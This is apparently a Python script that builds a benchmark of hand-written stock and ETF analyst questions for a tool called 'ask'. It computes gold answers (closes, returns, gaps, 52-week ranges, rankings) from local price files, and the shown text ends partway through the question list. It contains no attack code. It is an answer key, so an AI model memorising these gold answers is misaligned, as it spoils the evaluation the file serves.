#!/usr/bin/env python3
"""blind-15: 240 hand-written analyst questions for `ask`, with gold answers computed here from the raw files.

Standard library only. Reads the data from $ASK_EVAL_DATA if set, else <repo>/../shared/data, and writes
questions.jsonl next to this file. Every gold answer is computed by the code below (never by the engine), and
the run stops with a non-zero exit if any self-check fails.
"""
import csv
import datetime as dt
import glob
import json
import math
import os
import re
import sys
from collections import namedtuple, Counter
from statistics import mean, stdev
from zoneinfo import ZoneInfo

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(REPO, "..", "shared", "data")

DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
ETFS = ["INDA", "FXY", "DBB"]
ALL = DAILY + ETFS
TODAY = "2025-07-08"
NY = ZoneInfo("America/New_York")
UTC = ZoneInfo("UTC")


class CheckFailed(Exception):
    pass


def need(cond, msg):
    if not cond:
        raise CheckFailed(msg)


Bar = namedtuple("Bar", "d o h l c v")


def num(s):
    x = float(s)
    return int(x) if x.is_integer() else x


# ----------------------------------------------------------------------------------------------------------------
# Loading
# ----------------------------------------------------------------------------------------------------------------
BARS = {}      # symbol -> list of daily Bar (date order)
POS = {}       # symbol -> {date: index}
MIN = {}       # ETF -> list of minute Bar, d = "YYYY-MM-DD HH:MM" New York time
MINPOS = {}    # ETF -> {stamp: index}
MINDAY = {}    # ETF -> {date: [minute Bar]}


def load():
    for s in DAILY:
        path = os.path.join(DATA, "stocks", s.lower() + ".us.txt")
        with open(path, newline="") as f:
            r = csv.reader(f)
            head = next(r)
            need(head[:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], "unexpected header in " + path)
            bars = [Bar(row[0], float(row[1]), float(row[2]), float(row[3]), float(row[4]), num(row[5]))
                    for row in r if row]
        bars.sort(key=lambda b: b.d)
        need(len({b.d for b in bars}) == len(bars), "duplicate dates in " + path)
        BARS[s] = bars
    for s in ETFS:
        paths = glob.glob(os.path.join(DATA, "intraday", s + "_1min_*.csv"))
        need(len(paths) == 1, "expected one intraday file for " + s)
        mins = []
        with open(paths[0], newline="") as f:
            r = csv.reader(f)
            head = next(r)
            need(head[:6] == ["timestamp", "open", "high", "low", "close", "volume"], "bad header " + paths[0])
            for row in r:
                if not row:
                    continue
                t = dt.datetime.fromisoformat(row[0]).replace(tzinfo=UTC).astimezone(NY)
                mins.append(Bar(t.strftime("%Y-%m-%d %H:%M"), float(row[1]), float(row[2]), float(row[3]),
                                float(row[4]), num(row[5])))
        mins.sort(key=lambda b: b.d)
        need(len({b.d for b in mins}) == len(mins), "duplicate minutes in " + s)
        MIN[s] = mins
        MINPOS[s] = {b.d: i for i, b in enumerate(mins)}
        days = {}
        for b in mins:
            days.setdefault(b.d[:10], []).append(b)
        MINDAY[s] = days
        BARS[s] = [Bar(d, ms[0].o, max(m.h for m in ms), min(m.l for m in ms), ms[-1].c, sum(m.v for m in ms))
                   for d, ms in sorted(days.items())]
    for s in ALL:
        POS[s] = {b.d: i for i, b in enumerate(BARS[s])}


load()

# Market calendars, used to find holes (a market day inside a symbol's range on which it has no bar).
_cnt = Counter(b.d for s in DAILY for b in BARS[s])
_first = {s: BARS[s][0].d for s in ALL}
_last = {s: BARS[s][-1].d for s in ALL}
CAL_DAILY = sorted(d for d, n in _cnt.items() if 2 * n >= sum(1 for s in DAILY if _first[s] <= d))
CAL_ETF = sorted({b.d for s in ETFS for b in BARS[s]})
CALSET = {s: set(CAL_DAILY if s in DAILY else CAL_ETF) for s in ALL}
HOLES = {s: sorted(d for d in CALSET[s] if _first[s] <= d <= _last[s] and d not in POS[s]) for s in ALL}
HOLESET = {s: set(HOLES[s]) for s in ALL}
ALLDATES = set(d for s in ALL for d in POS[s])
ALLSTAMPS = set(st for s in ETFS for st in MINPOS[s])


def no_hole(s, a, b):
    """No market day strictly between dates a and b (a < b) is missing for s."""
    bad = [h for h in HOLES[s] if a < h < b]
    need(not bad, "%s: hole in the data between %s and %s (%s)" % (s, a, b, bad[:3]))


def cal_sessions(s, a, b):
    """Market days in [a, b] for the calendar of s."""
    cal = CAL_DAILY if s in DAILY else CAL_ETF
    return [d for d in cal if a <= d <= b]


# ----------------------------------------------------------------------------------------------------------------
# Primitive measures (all strict: they fail rather than guess)
# ----------------------------------------------------------------------------------------------------------------
def bar(s, d):
    need(d in POS[s], "%s has no session on %s" % (s, d))
    return BARS[s][POS[s][d]]


def on_or_before(s, d):
    """The session on d, or the session before it if d is not a market day (never across a hole)."""
    if d in POS[s]:
        return BARS[s][POS[s][d]]
    need(_first[s] < d <= _last[s], "%s: %s is outside its data" % (s, d))
    need(d not in CALSET[s], "%s: %s is a market day missing for this symbol" % (s, d))
    prev = [b for b in BARS[s] if b.d < d][-1]
    no_hole(s, prev.d, d)
    return prev


def prev_bar(s, d):
    i = POS[s][bar(s, d).d]
    need(i > 0, "%s: no session before %s" % (s, d))
    p = BARS[s][i - 1]
    no_hole(s, p.d, d)
    return p


def ret(s, d):
    return bar(s, d).c / prev_bar(s, d).c - 1


def gap(s, d):
    return bar(s, d).o / prev_bar(s, d).c - 1


def sessions(s, a, b):
    need(a <= b, "empty window")
    need(_first[s] <= a and b <= _last[s], "%s: window %s..%s not covered by data (%s..%s)" %
         (s, a, b, _first[s], _last[s]))
    out = [x for x in BARS[s] if a <= x.d <= b]
    need(out, "%s: no sessions in %s..%s" % (s, a, b))
    miss = [h for h in HOLES[s] if a <= h <= b]
    need(not miss, "%s: window %s..%s has holes %s" % (s, a, b, miss[:3]))
    return out


def rets(s, a, b, drop_first=False):
    ss = sessions(s, a, b)
    if drop_first:
        ss = ss[1:]
    return [(x.d, ret(s, x.d)) for x in ss]


def change(s, a, b):
    """Close on the later date / close on the earlier date - 1 (non-market days map to the session before)."""
    x, y = on_or_before(s, a), on_or_before(s, b)
    need(x.d < y.d, "change: dates collapse")
    sessions(s, x.d, y.d)   # no holes between
    return y.c / x.c - 1


def ma(s, d, n):
    i = POS[s][bar(s, d).d]
    need(i + 1 >= n, "%s: MA%d undefined on %s" % (s, n, d))
    win = BARS[s][i + 1 - n:i + 1]
    sessions(s, win[0].d, win[-1].d)
    return mean(x.c for x in win)


def hi52(s, d):
    start = (dt.date.fromisoformat(d) - dt.timedelta(days=364)).isoformat()
    need(_first[s] <= start, "%s: less than a year of data before %s" % (s, d))
    sessions(s, start, on_or_before(s, d).d)
    return max(x.h for x in BARS[s] if start <= x.d <= d)


def lo52(s, d):
    start = (dt.date.fromisoformat(d) - dt.timedelta(days=364)).isoformat()
    need(_first[s] <= start, "%s: less than a year of data before %s" % (s, d))
    sessions(s, start, on_or_before(s, d).d)
    return min(x.l for x in BARS[s] if start <= x.d <= d)


def dist_high(s, d, since=None):
    b = bar(s, d)
    since = since or _first[s]
    top = max(x.c for x in BARS[s] if since <= x.d <= d)
    return b.c / top - 1


def volat(s, a, b):
    r = [v for _, v in rets(s, a, b)]
    need(len(r) >= 3, "too few returns")
    return stdev(r)


def pearson(xs, ys):
    mx, my = mean(xs), mean(ys)
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def correl(s1, s2, a, b, drop_first=False):
    r1 = dict(rets(s1, a, b, drop_first))
    r2 = dict(rets(s2, a, b, drop_first))
    common = sorted(set(r1) & set(r2))
    need(len(common) >= 10, "too few common dates")
    return pearson([r1[d] for d in common], [r2[d] for d in common])


def mins(s, d, t0="00:00", t1="23:59"):
    return [m for m in MINDAY[s].get(d, []) if t0 <= m.d[11:] <= t1]


def vwap_of(ms):
    need(ms, "no minutes")
    v = sum(m.v for m in ms)
    need(v > 0, "no volume")
    return sum(m.c * m.v for m in ms) / v


# ----------------------------------------------------------------------------------------------------------------
# Tolerance, rounding and gold builders
# ----------------------------------------------------------------------------------------------------------------
def tol(v):
    return max(0.001 * abs(v), 0.01 if abs(v) >= 1 else 0.0001)


def distinct(a, b):
    return abs(a - b) > max(tol(a), tol(b))


def close_enough(a, b):
    return not distinct(a, b)


def R(x):
    if isinstance(x, str):
        return x
    need(isinstance(x, (int, float)) and math.isfinite(x), "non-finite number")
    y = round(float(x), 8)
    if y.is_integer():
        return int(y)
    return y


def G(rows, match="first", exact=False):
    return {"rows": [[R(c) for c in row] for row in rows], "match": match, "exact_rows": exact}


def top_n(items, n, desc=True):
    """items: [(label, value)]. The best n, each separated from the next by more than the tolerance."""
    srt = sorted(items, key=lambda t: t[1], reverse=desc)
    need(len(srt) >= n, "fewer items than asked")
    upto = min(len(srt), n + 1)
    for i in range(upto - 1):
        need(distinct(srt[i][1], srt[i + 1][1]),
             "tie in ranking: %s %s vs %s %s" % (srt[i][0], srt[i][1], srt[i + 1][0], srt[i + 1][1]))
    return srt[:n]


def extreme(items, desc=True):
    return top_n(items, 1, desc)[0]


def longest_streak(series, pred):
    """series: [(date, value)]; the longest run with pred(value); must be unique."""
    runs, cur = [], []
    for d, v in series:
        if pred(v):
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    need(runs, "no run at all")
    runs.sort(key=len, reverse=True)
    need(len(runs) == 1 or len(runs[0]) > len(runs[1]), "tie for the longest run")
    return runs[0]


def universe_on(d):
    return [s for s in ALL if d in POS[s]]


def universe_over(a, b):
    return [s for s in ALL if a in POS[s] and b in POS[s]]


def period_bounds(kind, y, k=None):
    """Calendar bounds: ('month', 2016, 3) -> ('2016-03-01', '2016-03-31')."""
    if kind == "year":
        return "%d-01-01" % y, "%d-12-31" % y
    if kind == "quarter":
        m0 = 3 * (k - 1) + 1
        a = dt.date(y, m0, 1)
        b = (dt.date(y + (m0 + 3 > 12), (m0 + 3 - 1) % 12 + 1, 1) - dt.timedelta(days=1))
        return a.isoformat(), b.isoformat()
    if kind == "month":
        a = dt.date(y, k, 1)
        b = dt.date(y + (k == 12), k % 12 + 1, 1) - dt.timedelta(days=1)
        return a.isoformat(), b.isoformat()
    raise ValueError(kind)


def week_of(d):
    x = dt.date.fromisoformat(d)
    mon = x - dt.timedelta(days=x.weekday())
    return mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat()


def candle(s, a, b):
    ss = sessions(s, a, b)
    return [ss[0].o, max(x.h for x in ss), min(x.l for x in ss), ss[-1].c, sum(x.v for x in ss)]


# ----------------------------------------------------------------------------------------------------------------
# Gold helpers per kind
# ----------------------------------------------------------------------------------------------------------------
YDAY = "2025-07-07"
LAST_MONTH = ("2025-06-01", "2025-06-30")
THIS_MONTH = ("2025-07-01", TODAY)
THIS_YEAR = ("2025-01-01", TODAY)
LAST_QUARTER = ("2025-04-01", "2025-06-30")
LAST_WEEK = ("2025-06-30", "2025-07-04")


def fld(b, f):
    return b.h - b.l if f == "range" else getattr(b, f)


def g_rows(s, bars, fields):
    return G([[b.d] + [fld(b, f) for f in fields] for b in bars], "set", True)


def g_last(s, n, fields, upto=None):
    bars = [b for b in BARS[s] if upto is None or b.d <= upto][-n:]
    need(len(bars) == n, "not enough bars")
    sessions(s, bars[0].d, bars[-1].d)
    return g_rows(s, bars, fields)


def g_range_rows(s, a, b, fields):
    return g_rows(s, sessions(s, a, b), fields)


def g_day(s, d, f):
    return G([[d, fld(bar(s, d), f)]])


def agg(s, a, b, f, how):
    vals = [fld(x, f) for x in sessions(s, a, b)]
    return {"mean": mean, "sum": sum, "max": max, "min": min}[how](vals)


def g_agg(s, a, b, f, how):
    return G([[agg(s, a, b, f, how)]])


def g_extreme(s, a, b, f, desc=True):
    d, v = extreme([(x.d, fld(x, f)) for x in sessions(s, a, b)], desc)
    return G([[d, v]])


def g_ret(s, d, which="ret"):
    return G([[d, ret(s, d) if which == "ret" else gap(s, d)]])


def same_both_ways(fn):
    """A windowed return statistic must not depend on whether the first session's return is counted."""
    x, y = fn(False), fn(True)
    if isinstance(x, (int, float)):
        need(x == y if isinstance(x, int) else close_enough(x, y), "first-session return changes the answer")
    else:
        need(x == y, "first-session return changes the answer: %r vs %r" % (x, y))
    return x


def g_bigmove(s, a, b, mode):
    def f(drop):
        r = rets(s, a, b, drop)
        if mode == "up":
            return extreme(r, True)
        if mode == "down":
            return extreme(r, False)
        d, _ = extreme([(d, abs(v)) for d, v in r], True)
        return (d, dict(r)[d])
    d, v = same_both_ways(f)
    return G([[d, v]])


def g_rank(items, n, desc=True):
    rows = top_n(items, n, desc)
    if n == 1:
        return G([list(rows[0])], "first")
    return G([list(r) for r in rows], "ordered", True)


def day_metric(s, d, f):
    if f == "ret":
        return ret(s, d)
    if f == "gap":
        return gap(s, d)
    return fld(bar(s, d), f)


def g_xrank(d, f, n, desc=True, among=None):
    syms = [s for s in universe_on(d) if among is None or s in among]
    need(len(syms) >= n, "universe too small")
    return g_rank([(s, day_metric(s, d, f)) for s in syms], n, desc)


def g_movers(a, b, n, desc=True, among=None):
    syms = [s for s in universe_over(a, b) if among is None or s in among]
    return g_rank([(s, change(s, a, b)) for s in syms], n, desc)


def g_compare(items, mode):
    """items: [(symbol, value)]. mode 'winner' -> ordered, best first; 'loser' -> ordered, lowest first;
    'set' -> any order."""
    if mode == "set":
        return G([list(t) for t in items], "set", True)
    rows = top_n(items, len(items), mode == "winner")
    return G([list(t) for t in rows], "ordered", True)


def month_list(y, months):
    return [period_bounds("month", y, m) for m in months]


def g_grouped(s, periods, f, how):
    return G([[agg(s, a, b, f, how)] for a, b in periods], "ordered", True)


def g_last_close_per(s, periods):
    return G([[sessions(s, a, b)[-1].c] for a, b in periods], "ordered", True)


def g_pop(s, later, earlier, f, how="mean"):
    x, y = agg(s, later[0], later[1], f, how), agg(s, earlier[0], earlier[1], f, how)
    return G([[x, y, x / y - 1]])


def g_ma(s, d, n):
    return G([[d, ma(s, d, n)]])


def ma_diff_series(s, fast, slow):
    """[(date, fast - slow)] where both are defined; fast/slow are ints (MA length) or 'close'."""
    out = []
    for i, b in enumerate(BARS[s]):
        def val(k):
            if k == "close":
                return b.c
            if i + 1 < k:
                return None
            if any(BARS[s][i + 1 - k].d < h < b.d for h in HOLES[s]):
                return None     # an MA window across a hole is undefined
            return mean(x.c for x in BARS[s][i + 1 - k:i + 1])
        f, sl = val(fast), val(slow)
        if f is None or sl is None:
            continue
        out.append((b.d, f - sl, b.c))
    return out


def crossings(s, fast, slow, direction):
    ser = ma_diff_series(s, fast, slow)
    out = []
    for (d0, x0, c0), (d1, x1, c1) in zip(ser, ser[1:]):
        if POS[s][d1] != POS[s][d0] + 1:
            continue    # not consecutive sessions with both averages defined
        hit = (x0 < 0 < x1) if direction == "above" else (x0 > 0 > x1)
        if hit:
            # the two series must not (nearly) tie around the crossing
            need(abs(x0) > 1e-6 * c0 and abs(x1) > 1e-6 * c1, "%s: near-tie at crossing %s" % (s, d1))
            no_hole(s, d0, d1)
            out.append(d1)
    return out


def g_cross_last_before(s, fast, slow, direction, before):
    xs = crossings(s, fast, slow, direction)
    need(before not in xs, "the boundary date is itself a crossing")
    cand = [d for d in xs if d < before]
    need(cand, "no crossing before " + before)
    return G([[cand[-1]]])


def g_cross_first_after(s, fast, slow, direction, after, until=None):
    xs = crossings(s, fast, slow, direction)
    need(after not in xs, "the boundary date is itself a crossing")
    cand = [d for d in xs if d > after and (until is None or d <= until)]
    need(cand, "no crossing after " + after)
    return G([[cand[0]]])


def no_tie_with(vals, x):
    need(all(abs(v - x) > 1e-9 * max(1.0, abs(x)) for v in vals), "a value equals the threshold")


def g_count(s, a, b, f, pred_name, x):
    """Counts sessions in [a, b] whose field f (or daily return) is above/below x (strict)."""
    def f_(drop):
        if f == "ret":
            vals = [v for _, v in rets(s, a, b, drop)]
        else:
            ss = sessions(s, a, b)
            vals = [fld(y, f) for y in (ss[1:] if drop else ss)]
        if pred_name == "absgt":
            vals = [abs(v) for v in vals]
        no_tie_with(vals, x)
        if pred_name in ("gt", "absgt"):
            return sum(1 for v in vals if v > x)
        return sum(1 for v in vals if v < x)
    if f == "ret":
        return G([[same_both_ways(f_)]])
    return G([[f_(False)]])


def g_xcount(d, pred, among=None):
    syms = [s for s in universe_on(d) if among is None or s in among]
    need(syms, "empty universe")
    return G([[sum(1 for s in syms if pred(s))]])


def above_ma(s, d, n):
    c, m = bar(s, d).c, ma(s, d, n)
    need(abs(c - m) > 1e-6 * c, "%s: close and MA%d nearly equal on %s" % (s, n, d))
    return c > m


def g_vol(s, a, b):
    return G([[same_both_ways(lambda drop: stdev([v for _, v in rets(s, a, b, drop)]))]])


def g_corr(s1, s2, a, b):
    return G([[same_both_ways(lambda drop: correl(s1, s2, a, b, drop))]])


def g_streak(s, a, b, up=True):
    def f(drop):
        r = rets(s, a, b, drop)
        run = longest_streak(r, (lambda v: v > 0) if up else (lambda v: v < 0))
        return (len(run), run[0], run[-1])
    n, d0, d1 = same_both_ways(f)
    return G([[n, d0, d1]])


def g_vwap_day(s, d):
    bar(s, d)
    allday = vwap_of(mins(s, d))
    regular = vwap_of(mins(s, d, "09:30", "15:59"))
    need(abs(allday / regular - 1) < 0.001, "%s %s: whole-day and regular-session VWAP differ" % (s, d))
    return G([[allday]])


def g_vwap_win(s, d, t0, t1, t1_alt=None):
    v = vwap_of(mins(s, d, t0, t1))
    if t1_alt is not None:
        need(close_enough(v, vwap_of(mins(s, d, t0, t1_alt))), "VWAP depends on the window edge")
    return G([[v]])


def g_minutes(s, d, t0, t1, fields, t1_alt=None, min_rows=2):
    ms = mins(s, d, t0, t1)
    if t1_alt is not None:
        need([m.d for m in mins(s, d, t0, t1_alt)] == [m.d for m in ms], "minute list depends on the edge")
    need(len(ms) >= min_rows, "too few minutes")
    return G([[m.d] + [fld(m, f) for f in fields] for m in ms], "set", True)


def g_candle(s, a, b):
    return G([candle(s, a, b)])


def g_dist(s, d):
    return G([[d, dist_high(s, d)]])


# ----------------------------------------------------------------------------------------------------------------
# The questions (written by hand). Each answerable one carries the code that computes its gold answer.
# ----------------------------------------------------------------------------------------------------------------
SPECS = []


def Q(kind, text, gold):
    SPECS.append({"kind": kind, "question": text, "gold": gold})


def X(kind, text):
    SPECS.append({"kind": kind, "question": text, "refusal": kind})


# --- latest-rows -------------------------------------------------------------------------------------------------
K = "latest-rows"
Q(K, "show me FXY's last five daily closes", lambda: g_last("FXY", 5, ["c"]))
Q(K, "DBB open/high/low/close for the past 3 sessions please", lambda: g_last("DBB", 3, ["o", "h", "l", "c"]))
Q(K, "What are the most recent 4 daily bars for INDA? Just the dates and volume is fine.",
  lambda: g_last("INDA", 4, ["v"]))
Q(K, "last 6 one-minute bars in DBB — close and volume", lambda: G(
    [[m.d, m.c, m.v] for m in MIN["DBB"][-6:]], "set", True))
Q(K, "Give me Apple's final five closing prices in the dataset (the run ending 10 Nov 2017).",
  lambda: g_last("AAPL", 5, ["c"], "2017-11-10"))
Q(K, "nvda last 3 sessions thru 2017-11-10, close + volume", lambda: g_last("NVDA", 3, ["c", "v"], "2017-11-10"))
Q(K, "Latest two days of FXY highs and lows?", lambda: g_last("FXY", 2, ["h", "l"]))
Q(K, "What did IBM's most recent 4 trading days look like as of November 10th, 2017? Opens and closes.",
  lambda: g_last("IBM", 4, ["o", "c"], "2017-11-10"))

# --- day-value ---------------------------------------------------------------------------------------------------
K = "day-value"
Q(K, "What did Microsoft close at on March 2, 2015?", lambda: g_day("MSFT", "2015-03-02", "c"))
Q(K, "KO volume 10/15/2014", lambda: g_day("KO", "2014-10-15", "v"))
Q(K, "where did FXY close yesterday", lambda: g_day("FXY", YDAY, "c"))
Q(K, "DBB high on 9 April 2025?", lambda: g_day("DBB", "2025-04-09", "h"))
Q(K, "what was the opening price for the India ETF (INDA) on the 5th of March, 2025", lambda: g_day(
    "INDA", "2025-03-05", "o"))
Q(K, "Nvidia's low on Feb 11th 2016", lambda: g_day("NVDA", "2016-02-11", "l"))
Q(K, "how many shares of FXY changed hands today?", lambda: g_day("FXY", TODAY, "v"))
Q(K, "Amazon's intraday range (high minus low) on July 28 2017?", lambda: g_day("AMZN", "2017-07-28", "range"))

# --- date-range-rows ---------------------------------------------------------------------------------------------
K = "date-range-rows"
Q(K, "NVDA closing prices 2016-05-09 through 2016-05-13", lambda: g_range_rows("NVDA", "2016-05-09", "2016-05-13",
                                                                               ["c"]))
Q(K, "Can you pull FXY's daily open, high, low and close for the week of August 5th, 2024?",
  lambda: g_range_rows("FXY", *week_of("2024-08-05"), ["o", "h", "l", "c"]))
Q(K, "jpm volume each day jan 4 - jan 8 2016", lambda: g_range_rows("JPM", "2016-01-04", "2016-01-08", ["v"]))
Q(K, "List DBB's closes from April 2 to April 10, 2025 (both days included).",
  lambda: g_range_rows("DBB", "2025-04-02", "2025-04-10", ["c"]))
Q(K, "INDA closes for Mar 3–7 2025", lambda: g_range_rows("INDA", "2025-03-03", "2025-03-07", ["c"]))
Q(K, "Tesla daily OHLC between 8 May 2013 and 10 May 2013 inclusive",
  lambda: g_range_rows("TSLA", "2013-05-08", "2013-05-10", ["o", "h", "l", "c"]))
Q(K, "Coca-Cola highs and lows over the last three trading days of 2015",
  lambda: g_range_rows("KO", "2015-12-29", "2015-12-31", ["h", "l"]))
Q(K, "show FXY closes for the first three sessions of this month", lambda: G(
    [[b.d, b.c] for b in sessions("FXY", *THIS_MONTH)[:3]], "set", True))

# --- window-aggregate --------------------------------------------------------------------------------------------
K = "window-aggregate"
Q(K, "Avg closing pirce of AAPL in Q3 2016?", lambda: g_agg("AAPL", *period_bounds("quarter", 2016, 3), "c",
                                                               "mean"))
Q(K, "total DBB volume last month", lambda: g_agg("DBB", *LAST_MONTH, "v", "sum"))
Q(K, "what was Netflix's highest intraday high during January 2016?", lambda: g_agg(
    "NFLX", *period_bounds("month", 2016, 1), "h", "max"))
Q(K, "FXY average daily volume over the last 20 sessions", lambda: G(
    [[mean(b.v for b in sessions("FXY", BARS["FXY"][-20].d, TODAY))]]))
Q(K, "Lowest price INDA traded at in April 2025", lambda: g_agg("INDA", *period_bounds("month", 2025, 4), "l",
                                                                "min"))
Q(K, "mean daily high-low range for IBM in feb 2017", lambda: g_agg("IBM", *period_bounds("month", 2017, 2),
                                                                     "range", "mean"))
Q(K, "What's the average close of Intel between 2014-06-02 and 2014-06-27?",
  lambda: g_agg("INTC", "2014-06-02", "2014-06-27", "c", "mean"))
Q(K, "How many AMD shares traded in total in the first quarter of 2017?",
  lambda: g_agg("AMD", *period_bounds("quarter", 2017, 1), "v", "sum"))

# --- extreme-day -------------------------------------------------------------------------------------------------
K = "extreme-day"
Q(K, "Which day in 2016 did Amazon post its highest close?", lambda: g_extreme("AMZN", *period_bounds("year", 2016),
                                                                              "c"))
Q(K, "FXY's heaviest-volume day last month?", lambda: g_extreme("FXY", *LAST_MONTH, "v"))
Q(K, "when did DBB hit its lowest intraday low so far this year", lambda: g_extreme("DBB", *THIS_YEAR, "l", False))
Q(K, "On what date was Facebook's highest close of 2014?", lambda: g_extreme("FB", *period_bounds("year", 2014), "c"))
Q(K, "INDA: day with the widest high-low range between March 1 and May 31, 2025",
  lambda: g_extreme("INDA", "2025-03-01", "2025-05-31", "range"))
Q(K, "busiest trading day for KO in 2013 by volume", lambda: g_extreme("KO", *period_bounds("year", 2013), "v"))
Q(K, "On which day did GOOGL set its 2015 intraday high, and what was it?",
  lambda: g_extreme("GOOGL", *period_bounds("year", 2015), "h"))
Q(K, "Quietest DBB session (lowest volume) in Q1 2025", lambda: g_extreme("DBB", *period_bounds("quarter", 2025, 1),
                                                                           "v", False))

# --- 52-week -----------------------------------------------------------------------------------------------------
K = "52-week"
Q(K, "52-week high for IBM as of 2015-12-31", lambda: G([[hi52("IBM", "2015-12-31")]]))
Q(K, "What's DBB's 52-week low right now?", lambda: G([[lo52("DBB", TODAY)]]))
Q(K, "fxy 52 wk range today", lambda: G([[lo52("FXY", TODAY), hi52("FXY", TODAY)]]))
Q(K, "Apple 52-week high on May 12, 2016?", lambda: G([[hi52("AAPL", "2016-05-12")]]))
Q(K, "What was JPMorgan's 52-week high at the end of September 2014 (as of 9/30/14)?",
  lambda: G([[hi52("JPM", "2014-09-30")]]))
Q(K, "Netflix 52-week low and high as of 30 June 2017", lambda: G([[lo52("NFLX", "2017-06-30"),
                                                                    hi52("NFLX", "2017-06-30")]]))
Q(K, "Where was Tesla's 52-week low on Feb 10 2016?", lambda: G([[lo52("TSLA", "2016-02-10")]]))
Q(K, "FXY's 52-week high as of the last trading day of 2024", lambda: G([[hi52("FXY", "2024-12-31")]]))

# --- change-between ----------------------------------------------------------------------------------------------
K = "change-between"
Q(K, "How much did AAPL change from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: G([[change("AAPL", "2015-12-31", "2016-12-30")]]))
Q(K, "% change in FXY from the June 30 close to yesterday's close?", lambda: G([[change("FXY", "2025-06-30", YDAY)]]))
Q(K, "DBB performance between Jan 1 2025 and Mar 31 2025", lambda: G([[change("DBB", "2025-01-01", "2025-03-31")]]))
Q(K, "INDA return from the Feb 14, 2025 close to the May 30, 2025 close",
  lambda: G([[change("INDA", "2025-02-14", "2025-05-30")]]))
Q(K, "netflix pct change close 1/3/2017 to close 7/3/2017", lambda: G([[change("NFLX", "2017-01-03", "2017-07-03")]]))
Q(K, "How did Coca-Cola move between the Christmas Eve 2014 close and the New Year's Eve 2014 close?",
  lambda: G([[change("KO", "2014-12-24", "2014-12-31")]]))
Q(K, "Alphabet (GOOGL) price change from Dec 31 2015 close to Dec 30 2016 close",
  lambda: G([[change("GOOGL", "2015-12-31", "2016-12-30")]]))
Q(K, "How much did the yen ETF FXY rise from the close on 2024-07-10 to the close on 2024-08-05?",
  lambda: G([[change("FXY", "2024-07-10", "2024-08-05")]]))

# --- daily-return-or-gap -----------------------------------------------------------------------------------------
K = "daily-return-or-gap"
Q(K, "AAPL daily return on 6/24/2016", lambda: g_ret("AAPL", "2016-06-24"))
Q(K, "How big was Tesla's opening gap on August 3rd, 2017?", lambda: g_ret("TSLA", "2017-08-03", "gap"))
Q(K, "what was FXY's return on 5 Aug 2024", lambda: g_ret("FXY", "2024-08-05"))
Q(K, "did DBB gap up or down at today's open? by how much", lambda: g_ret("DBB", TODAY, "gap"))
Q(K, "nvidia gap on 2016-11-11 vs the prior close", lambda: g_ret("NVDA", "2016-11-11", "gap"))
Q(K, "INDA daily % change on June 2 2025", lambda: g_ret("INDA", "2025-06-02"))
Q(K, "How much did JPMorgan gain on the day after the 2016 election (Nov 9, 2016)?",
  lambda: g_ret("JPM", "2016-11-09"))
Q(K, "Facebook opening gap 27 July 2017", lambda: g_ret("FB", "2017-07-27", "gap"))
Q(K, "DBB one-day return on April 9th, 2025", lambda: g_ret("DBB", "2025-04-09"))

# --- biggest-move-day --------------------------------------------------------------------------------------------
K = "biggest-move-day"
Q(K, "biggest one day drop for Nvidea in 2016", lambda: g_bigmove("NVDA", *period_bounds("year", 2016), "down"))
Q(K, "What was FXY's largest daily gain in 2024, and when?", lambda: g_bigmove("FXY", *period_bounds("year", 2024),
                                                                              "up"))
Q(K, "DBB's worst day last quarter?", lambda: g_bigmove("DBB", *LAST_QUARTER, "down"))
Q(K, "INDA's biggest move either direction from March 1 to June 24 2025",
  lambda: g_bigmove("INDA", "2025-03-01", "2025-06-24", "abs"))
Q(K, "AMD best single day in 2017 (data runs to Nov 10)", lambda: g_bigmove("AMD", "2017-01-01", "2017-11-10", "up"))
Q(K, "Largest percentage decline in a single session for Microsoft during Q4 2008",
  lambda: g_bigmove("MSFT", *period_bounds("quarter", 2008, 4), "down"))
Q(K, "which day saw netflix's biggest daily move, up or down, in 2015?",
  lambda: g_bigmove("NFLX", *period_bounds("year", 2015), "abs"))
Q(K, "Coca-Cola's worst session of 2008", lambda: g_bigmove("KO", *period_bounds("year", 2008), "down"))

# --- cross-sectional-ranking -------------------------------------------------------------------------------------
K = "cross-sectional-ranking"
Q(K, "Top 3 names by high-low spread in dollars on 2015-08-24?", lambda: g_xrank("2015-08-24", "range", 3))
Q(K, "Which stock traded the most shares on March 3, 2014?", lambda: g_xrank("2014-03-03", "v", 1))
Q(K, "rank the four highest-priced stocks by close on 30 June 2017", lambda: g_xrank("2017-06-30", "c", 4))
Q(K, "Which 3 stocks gapped up the most at the open on 10/23/2015?", lambda: g_xrank("2015-10-23", "gap", 3))
Q(K, "Of the ETFs, which one had the biggest dollar range yesterday?", lambda: g_xrank(YDAY, "range", 1))
Q(K, "Rank INDA, FXY and DBB by volume on May 15, 2025", lambda: g_xrank("2025-05-15", "v", 3))
Q(K, "lightest volume stock on Christmas Eve 2013", lambda: g_xrank("2013-12-24", "v", 1, desc=False))
Q(K, "bottom 3 stocks by closing price on June 1st 2012", lambda: g_xrank("2012-06-01", "c", 3, desc=False))
Q(K, "Order the three ETFs by their daily return on 2 June 2025, best first",
  lambda: g_xrank("2025-06-02", "ret", 3))

# --- gainers-losers ----------------------------------------------------------------------------------------------
K = "gainers-losers"
Q(K, "Top 3 gainers on Nov 7 2016?", lambda: g_xrank("2016-11-07", "ret", 3))
Q(K, "biggest loser the day of the Brexit vote result (2016-06-24)", lambda: g_xrank("2016-06-24", "ret", 1,
                                                                                       desc=False))
Q(K, "Which five stocks performed best from the 2016-12-30 close to the 2017-06-30 close?",
  lambda: g_movers("2016-12-30", "2017-06-30", 5))
Q(K, "worst 3 performers between the Dec 31 2015 and Feb 11 2016 closes",
  lambda: g_movers("2015-12-31", "2016-02-11", 3, desc=False))
Q(K, "Which ETF gained the most from the May 30 close to the June 24 close this year?",
  lambda: g_movers("2025-05-30", "2025-06-24", 1))
Q(K, "two biggest decliners on September 29, 2008", lambda: g_xrank("2008-09-29", "ret", 2, desc=False))
